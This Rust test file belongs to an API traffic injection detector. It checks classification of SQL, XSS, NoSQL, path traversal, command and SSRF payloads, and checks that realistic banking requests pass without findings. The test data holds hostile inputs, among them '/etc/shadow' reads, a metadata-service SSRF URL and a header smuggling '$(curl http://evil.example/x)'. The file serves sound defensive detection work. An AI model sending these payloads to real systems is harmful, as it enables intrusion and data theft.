use super::body::{MAX_JSON_STRINGS, json_strings};
use super::*;
use crate::detect::testkit::{Harness, call, key};
use linkwell_core::Method;

fn run(c: &CallRecord<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    let k = key("GET", "/v1/x");
    Harness::default().run(&mut Injection::default(), c, &k, &mut out);
    out
}

#[test]
fn classes() {
    let cases = [
        ("1%27%20OR%201%3D1--", Some(InjectionClass::Sql)),
        (
            "1+UNION+SELECT+password+FROM+users",
            Some(InjectionClass::Sql),
        ),
        (
            "%253Cscript%253Ealert(1)%253C/script%253E",
            Some(InjectionClass::Xss),
        ),
        (
            "..%2F..%2Fetc%2Fpasswd",
            Some(InjectionClass::PathTraversal),
        ),
        ("x;cat /etc/shadow", Some(InjectionClass::Command)),
        ("{\"$ne\":1}", Some(InjectionClass::NoSql)),
        (
            "http://169.254.169.254/latest/meta-data",
            Some(InjectionClass::Ssrf),
        ),
        // Base64 that smuggles a payload is opened.
        (
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            Some(InjectionClass::Xss),
        ),
        ("O%27Reilly", None),
        ("select+a+plan", None),
        ("2026-01-01", None),
    ];
    for (input, want) in cases {
        assert_eq!(classify_injection(input).map(|h| h.0), want, "{input}");
    }
}

#[test]
fn mapping() {
    for c in InjectionClass::ALL {
        let want = if c == InjectionClass::Ssrf {
            Owasp::Api7
        } else {
            Owasp::Api8
        };
        assert_eq!(c.owasp(), want);
    }
    assert_eq!(InjectionClass::Sql.cwe(), 89);
    assert_eq!(InjectionClass::Ssrf.cwe(), 918);
}

#[test]
fn finding_names_place_cwe_and_owasp() {
    let c = call(
        "198.51.100.7",
        Method::Get,
        "/v1/accounts?limit=10&id=1%27%20or%20%271%27%3D%271",
        200,
        0,
    );
    let f = run(&c);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].kind, FindingKind::Injection);
    assert_eq!(f[0].cwe, Some(89));
    assert_eq!(f[0].owasp, Owasp::Api8);
    assert_eq!(f[0].evidence.excerpts[0], "in query parameter 'id'");
    assert_eq!(f[0].evidence.excerpts[1], "1' or '1'='1");
    assert!(
        f[0].explanation.contains("SQL injection"),
        "{}",
        f[0].explanation
    );

    let c = call(
        "198.51.100.7",
        Method::Post,
        "/v1/webhooks?url=http%3A%2F%2F169.254.169.254%2Flatest%2F",
        200,
        0,
    );
    let f = run(&c);
    assert_eq!(f[0].owasp, Owasp::Api7);
    assert_eq!(f[0].cwe, Some(918));
}

#[test]
fn places() {
    let mut c = call("198.51.100.7", Method::Post, "/v1/payments", 200, 0);
    c.content_type = Some("application/json".into());
    c.request_body =
        Some(r#"{"amount": 10.5, "reference": "x\u0027 UNION SELECT card FROM cards--"}"#.into());
    let h = scan_call(&c).unwrap();
    assert_eq!(
        (h.class, h.place),
        (InjectionClass::Sql, Place::Body("reference".into()))
    );

    c.request_body = Some(r#"{"user": "bob", "password": {"$ne": null}}"#.into());
    let h = scan_call(&c).unwrap();
    assert_eq!(h.class, InjectionClass::NoSql);

    c.content_type = Some("application/x-www-form-urlencoded".into());
    c.request_body = Some("name=Bob&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E".into());
    let h = scan_call(&c).unwrap();
    assert_eq!(
        (h.class, h.place),
        (InjectionClass::Xss, Place::Body("comment".into()))
    );

    c.content_type = Some("application/xml".into());
    c.request_body = Some(r#"<?xml version="1.0"?><root><a probe="&lt;script&gt;alert(1)&lt;/script&gt;"></a></root>"#.into());
    assert_eq!(scan_call(&c).unwrap().class, InjectionClass::Xss);
    c.request_body = Some(r#"<?xml version="1.0"?><pay><ref>O'Brien &amp; Co</ref><note a="x">Invoice 2026-11 (final)</note></pay>"#.into());
    assert_eq!(scan_call(&c), None);

    let mut c = call("198.51.100.7", Method::Get, "/v1/login?user[$ne]=x", 200, 0);
    assert_eq!(scan_call(&c).unwrap().class, InjectionClass::NoSql);
    c.set_target("/v1/files/..%2f..%2fetc%2fpasswd".to_string().into());
    let h = scan_call(&c).unwrap();
    assert_eq!(
        (h.class, h.place),
        (InjectionClass::PathTraversal, Place::Path)
    );

    let mut c = call("198.51.100.7", Method::Get, "/v1/accounts", 200, 0);
    c.user_agent = Some("Mozilla/5.0' AND SLEEP(5)-- ".into());
    let h = scan_call(&c).unwrap();
    assert_eq!(h.place, Place::Header("user-agent".into()));
    c.user_agent = None;
    c.headers
        .push(("Cookie".into(), "session=abc; lang=en' or 1=1--".into()));
    let h = scan_call(&c).unwrap();
    assert_eq!(h.place, Place::Cookie("lang".into()));
    c.headers.clear();
    c.headers
        .push(("X-Tenant".into(), "$(curl http://evil.example/x)".into()));
    let h = scan_call(&c).unwrap();
    assert_eq!(
        (h.class, h.place),
        (InjectionClass::Command, Place::Header("x-tenant".into()))
    );
}

/// Realistic banking traffic: nothing here may be reported.
#[test]
fn benign_banking_calls() {
    let targets = [
        "/v1/accounts/10042/transactions?from=2026-01-01&to=2026-02-01&limit=50",
        "/v1/customers?name=O%27Reilly&city=Dublin",
        "/v1/customers/search?q=D%27Angelo%2C+Maria",
        "/v1/payments?reference=Invoice+2026-11+(final)+-+select+plan",
        "/v1/addresses?line1=12+High+Street%2C+Flat+3&line2=London%2C+UK",
        "/v1/subscriptions?callback=https%3A%2F%2Fpartner.example.com%2Fhooks%2Fpay%3Fid%3D5",
        "/v1/documents/ZG9jLTIwMjYtMDAwMTIz?format=pdf",
        "/v1/users?email=john.doe%2Bbank%40example.com&sort=-created_at",
        "/v1/fx/rates?base=EUR&symbols=USD,GBP,CHF",
        "/v1/transfers?memo=Rent+%26+utilities+for+March%3B+thanks!",
        "/v1/search?q=%22savings+account%22+OR+%22isa%22",
        "/v1/statements?period=2026-Q1&tz=Europe%2FLondon",
        "/v1/cards/4111-xxxx-xxxx-1111/limits?amount=1%2C500.00",
        "/v1/notes?text=Meeting+at+10%3A30+-+bring+ID+%26+proof+of+address",
        "/v1/merchants?name=Smith+%26+Sons+(Ltd.)&category=5411",
        "/v1/accounts?ids=1,2,3&fields=iban,bic,balance",
        "/v1/payees?name=AT%26T+Inc.&iban=DE89370400440532013000",
    ];
    for t in targets {
        let mut c = call("81.2.69.160", Method::Get, t, 200, 0);
        c.user_agent = Some(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
                .into(),
        );
        c.referer = Some("https://app.examplebank.com/accounts?tab=overview".into());
        c.headers.push((
            "cookie".into(),
            "sid=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.sig; theme=dark; consent=1".into(),
        ));
        c.headers.push((
            "x-request-id".into(),
            "7f0c1c2e-5b1a-4c8e-9a55-0f5e2b7d9d10".into(),
        ));
        assert_eq!(scan_call(&c), None, "{t}");
    }
    let mut c = call("81.2.69.160", Method::Post, "/v1/payments", 201, 0);
    c.content_type = Some("application/json".into());
    c.request_body = Some(
        r#"{"amount":"120.50","currency":"EUR","creditor":{"name":"O'Brien & Co","iban":"IE29AIBK93115212345678"},"remittance":"Invoice 2026-11 (final) - select plan; thanks","executeOn":"2026-03-01","callbackUrl":"https://partner.example.com/cb?x=1&y=2","meta":{"channel":"ios","note":"paid via app <3"}}"#
            .into(),
    );
    assert_eq!(scan_call(&c), None);
    c.content_type = Some("application/x-www-form-urlencoded".into());
    c.request_body = Some("grant_type=password&username=o%27neil&password=P%40ss%3Bw0rd%21".into());
    assert_eq!(scan_call(&c), None);
}

#[test]
fn json_scanner_unescapes_and_is_bounded() {
    let mut got = Vec::new();
    json_strings(r#"{"a":"x\"y","b":["\u003cs",1],"c":"tru"#, |k, v, key| {
        got.push((k.to_string(), v.to_string(), key));
        true
    });
    assert_eq!(got[1], ("a".into(), "x\"y".into(), false));
    assert_eq!(got[3], ("b".into(), "<s".into(), false));
    assert_eq!(got.last().unwrap().1, "tru");
    let many = format!("[{}]", vec!["\"a\""; 10_000].join(","));
    let mut n = 0;
    json_strings(&many, |_, _, _| {
        n += 1;
        true
    });
    assert_eq!(n, MAX_JSON_STRINGS);
}

#[test]
fn hostile_input_does_not_panic() {
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    let alphabet: Vec<char> =
        "'\"`<>/-#;()=,.*&|!\\ \t\n\0aAzZ09oRuUnNsSeElLcC@$%{}[]:_?+\x7féÐ＜\u{fffd}😀"
            .chars()
            .collect();
    let pieces = [
        "%u", "%25", "&#x", "\\u00", "://", "..", "0x", "select ", "<script", "$ne",
    ];
    for len in 0..600usize {
        let mut s = String::new();
        for _ in 0..len {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            if seed.is_multiple_of(7) {
                s.push_str(pieces[(seed / 7 % pieces.len() as u64) as usize]);
            } else {
                s.push(alphabet[(seed % alphabet.len() as u64) as usize]);
            }
        }
        s.push('é');
        let _ = classify_injection(&s);
        let mut c = call("198.51.100.7", Method::Post, "/x", 200, 0);
        c.set_target(format!("/{s}?{s}={s}").into());
        c.request_body = Some(format!("{{\"{s}\":\"{s}\"}}").into());
        c.headers.push(("cookie".into(), s.clone().into()));
        let _ = scan_call(&c);
    }
}

#[test]
fn clean_cache_only_skips_what_was_clean() {
    let mut cache = CleanCache::default();
    let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36";
    let mut c = call("81.2.69.160", Method::Get, "/v1/accounts", 200, 0);
    c.user_agent = Some(ua.into());
    assert_eq!(scan_call_with(&c, Some(&mut cache)), None);
    assert!(cache.contains(cache.key(ua, Rules::All as u8)));
    assert!(!cache.contains(cache.key(ua, Rules::NoSsrf as u8)));
    // An attack is never cached, so it is found every time.
    let bad = "Mozilla/5.0' AND SLEEP(5)-- and some padding";
    c.user_agent = Some(bad.into());
    for _ in 0..3 {
        assert!(scan_call_with(&c, Some(&mut cache)).is_some());
    }
    assert!(!cache.contains(cache.key(bad, Rules::All as u8)));
    c.user_agent = None;
    c.headers.push((
        "cookie".into(),
        "theme=dark; lang=en' or 1=1-- padding".into(),
    ));
    for _ in 0..2 {
        assert!(scan_call_with(&c, Some(&mut cache)).is_some());
    }
}
